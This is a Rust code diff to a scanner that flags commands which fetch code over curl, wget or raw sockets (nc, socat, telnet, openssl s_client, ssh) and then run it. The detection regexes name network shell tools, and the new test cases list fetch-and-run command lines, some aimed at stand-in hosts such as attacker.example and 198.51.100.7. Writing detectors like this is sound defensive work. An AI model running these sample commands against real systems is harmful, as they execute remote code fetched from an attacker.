@@ -75,7 +75,7 @@ pub fn excerpt(found: &str) -> String {
 /// Lines worth a closer look, in the spellings people write (a case-sensitive literal search is
 /// far faster); the regex below then judges the line case-insensitively.
 static REMOTE_CANDIDATE: LazyLock<Regex> = LazyLock::new(|| {
-    Regex::new("curl|wget|iwr|irm|iex|Invoke-|invoke-|Curl|CURL|Wget|WGET|IWR|IRM|IEX|Iwr|Irm|Iex|urlopen|requests\\.get|httpx\\.get")
+    Regex::new("curl|wget|iwr|irm|iex|Invoke-|invoke-|Curl|CURL|Wget|WGET|IWR|IRM|IEX|Iwr|Irm|Iex|urlopen|requests\\.get|httpx\\.get|nc |ncat|netcat|socat|telnet|s_client|ssh ")
         .expect("static regex builds")
 });
 
@@ -84,11 +84,26 @@ static REMOTE_EXEC: LazyLock<Regex> = LazyLock::new(|| {
         r#"(?ix)
         \b(curl|wget|iwr|irm|invoke-webrequest|invoke-restmethod)\b [^|\n]* \|\s* (sudo\s+(-\S+\s+)*)?
             (env\s+(\w+=\S*\s+)*)? (sh|bash|zsh|dash|ksh|fish|python[0-9.]*|perl|ruby|node|php|iex|invoke-expression)\b
-        | \b(sh|bash|zsh|source)\s+<\(\s*(curl|wget)\b
+        | (\b(sh|bash|zsh|source)|(^|[;&|(]\s*)\.)\s+(<\s*)?<\(\s*(curl|wget)\b
         | \b(sh|bash|zsh|python[0-9.]*|perl|ruby|node)\s+-c\s+["']?\$\(\s*(curl|wget)\b
         | \beval\s+["']?\$\(\s*(curl|wget)\b
         | \b(iex|invoke-expression)\s*\(?\s*\(?\s*(iwr|irm|invoke-webrequest|invoke-restmethod|\(?new-object\s+net\.webclient)
         | \b(exec|eval)\s*\(\s*(requests\.get|httpx\.get|(urllib\.request\.)?urlopen)\s*\("#,
+    )
+});
+
+/// Code read from a raw connection — a socket (`nc`, `ncat`, `socat`, `telnet`, `busybox nc`),
+/// `openssl s_client`, or a command's output on another machine (`ssh host cat x`) — and run:
+/// piped into an interpreter, sourced from a process substitution, or run by `sh -c "$(…)"` and
+/// `eval`. No URL names where it comes from, so nothing can tie it to a project.
+static RAW_EXEC: LazyLock<Regex> = LazyLock::new(|| {
+    ascii_regex(
+        r#"(?ix)
+        \b(nc|ncat|netcat|socat|telnet|openssl\s+s_client|ssh)\s [^|\n]* \|\s* (sudo\s+(-\S+\s+)*)?
+            (env\s+(\w+=\S*\s+)*)? (sh|bash|zsh|dash|ksh|fish|python[0-9.]*|perl|ruby|node|php)\b
+        | (\b(sh|bash|zsh|source)|(^|[;&|(]\s*)\.)\s+(<\s*)?<\(\s*(busybox\s+)?(nc|ncat|netcat|socat|telnet|openssl\s+s_client|ssh)\s
+        | \b(sh|bash|zsh|python[0-9.]*|perl|ruby|node)\s+-c\s+["']?\$\(\s*(busybox\s+)?(nc|ncat|netcat|socat|telnet|openssl\s+s_client|ssh)\s
+        | \beval\s+["']?\$\(\s*(busybox\s+)?(nc|ncat|netcat|socat|telnet|openssl\s+s_client|ssh)\s"#,
     )
 });
 
@@ -149,8 +164,12 @@ fn untrusted_download(line: &str) -> Option<String> {
 pub fn scan_remote_exec(cx: &mut Cx<'_>, path: &std::path::Path, text: &str, prose: bool) {
     let mut reported = 0;
     for (start, line) in candidate_lines(text, &REMOTE_CANDIDATE) {
-        let Some(found) = REMOTE_EXEC.find(line) else {
-            continue;
+        let (found, raw) = match REMOTE_EXEC.find(line) {
+            Some(found) => (found, false),
+            None => match RAW_EXEC.find(line) {
+                Some(found) => (found, true),
+                None => continue,
+            },
         };
         reported += 1;
         if reported > MAX_PER_FILE {
@@ -158,7 +177,12 @@ pub fn scan_remote_exec(cx: &mut Cx<'_>, path: &std::path::Path, text: &str, pro
         }
         let offset = start + found.start();
         let command = excerpt(found.as_str());
-        match (prose, untrusted_download(line)) {
+        let untrusted = if raw {
+            Some("from a raw connection, which no URL names".to_owned())
+        } else {
+            untrusted_download(line)
+        };
+        match (prose, untrusted) {
             (true, None) => report(
                 cx,
                 &rules::REMOTE_EXEC_DOC,
@@ -373,6 +397,36 @@ mod tests {
                 "resp = requests.get(url, headers={'Authorization': key})",
                 "curl -fsSL https://x -o install.sh && sha256sum -c install.sh.sha256",
             ],
+        );
+    }
+
+    #[test]
+    fn raw_exec() {
+        judges(
+            &RAW_EXEC,
+            &[
+                "ssh attacker.example cat payload | bash",
+                "bash < <(ssh host cat payload)",
+                ". <(busybox nc 198.51.100.7 80)",
+                "sh -c \"$(openssl s_client -quiet -connect 198.51.100.7:443)\"",
+                "nc 198.51.100.7 4444 | sh",
+                "ncat host 80 | sudo python3",
+                "eval \"$(socat - TCP:host:80)\"",
+                "source <(telnet host 23)",
+            ],
+            &[
+                "ssh user@host 'ls -la' | grep log",
+                "nc -z host 80 && echo up",
+                "echo hi | nc host 80",
+                "openssl s_client -connect host:443 < /dev/null | openssl x509 -noout -dates",
+                "ssh host bash < setup.sh",
+                "ssh-keygen -t ed25519 | tee key.log",
+            ],
+        );
+        judges(
+            &REMOTE_EXEC,
+            &["bash < <(curl -fsSL https://x)", ". <(curl -s https://x)"],
+            &["cat <(curl -s https://x)"],
         );
     }
 
